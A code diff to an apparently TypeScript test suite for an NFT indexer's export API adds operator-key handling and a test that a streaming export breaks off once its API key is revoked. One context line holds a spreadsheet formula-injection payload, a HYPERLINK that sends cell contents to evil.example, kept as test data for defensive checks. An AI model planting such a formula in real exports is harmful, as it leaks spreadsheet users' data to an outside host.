@@ -13,6 +13,7 @@ import {
   eventually,
   startTestService,
   synced,
+  TEST_KEY,
   type TestService,
   temporaryLogUrl,
   walkListing,
@@ -20,6 +21,8 @@ import {
 
 // Real components on shared machines need more than the runner's default timeout of 5 s.
 setDefaultTimeout(60_000);
+
+const OPERATOR = "operator-key-0123456789";
 
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"free mint")';
 const BIG_ID = 2n ** 255n + 7n;
@@ -51,7 +54,11 @@ beforeAll(async () => {
   await transact(anvil, stories.contract, "transferFrom", [from, to, 1n], { from });
   await transact(anvil, multi.contract, "burn", [anvil.accounts[1], 2n, 5n]);
   await anvil.mine(4);
-  service = await startTestService({ rpcUrl: anvil.url, logUrl: temporaryLogUrl(), env: { FINALITY_DEPTH_ETH: "2" } });
+  service = await startTestService({
+    rpcUrl: anvil.url,
+    logUrl: temporaryLogUrl(),
+    env: { FINALITY_DEPTH_ETH: "2", OPERATOR_KEYS: OPERATOR },
+  });
   const head = Number(await anvil.send("eth_blockNumber"));
   for (const { address } of [stories, multi, large]) await synced(service, address, head);
   await eventually("metadata is known", async () => {
@@ -214,13 +221,13 @@ test("refuses bad parameters and unknown collections with words", async () => {
 });
 
 /** Opens an export on a bare socket, and stops reading after the first bytes. */
-async function stalled(nft: Deployed, query: string) {
+async function stalled(nft: Deployed, query: string, key = TEST_KEY) {
   const socket = net.connect(service.port, "127.0.0.1");
   const chunks: Buffer[] = [];
   const ended = new Promise<void>((resolve) => socket.once("close", () => resolve()));
   socket.on("error", () => undefined);
   const path = `/api/collections/eth/${nft.address}/export?${query}`;
-  socket.write(`GET ${path} HTTP/1.1\r\nhost: localhost\r\nx-api-key: test-key-0123456789\r\n\r\n`);
+  socket.write(`GET ${path} HTTP/1.1\r\nhost: localhost\r\nx-api-key: ${key}\r\n\r\n`);
   await new Promise<void>((resolve) =>
     socket.once("data", (data) => {
       chunks.push(data);
@@ -289,5 +296,18 @@ test("breaks the connection when its block leaves the chain", async () => {
   await slow.ended;
   expect(slow.text()).toContain("HTTP/1.1 200");
   expect(slow.text()).toContain(`x-as-of-block: ${head}`);
+  expect(slow.text().endsWith("0\r\n\r\n")).toBe(false);
+});
+
+test("breaks the connection once its key is revoked", async () => {
+  const operate = (path: string, init: RequestInit) =>
+    service.fetch(path, { ...init, headers: { "x-api-key": OPERATOR } });
+  const added = await operate("/api/keys", { method: "POST", body: JSON.stringify({ name: "exporter" }) });
+  const { key } = (await added.json()) as { key: string };
+  const slow = await stalled(large, "format=jsonl", key);
+  expect((await operate("/api/keys/exporter", { method: "DELETE" })).status).toBe(200);
+  slow.socket.resume();
+  await slow.ended;
+  expect(slow.text()).toContain("HTTP/1.1 200");
   expect(slow.text().endsWith("0\r\n\r\n")).toBe(false);
 });
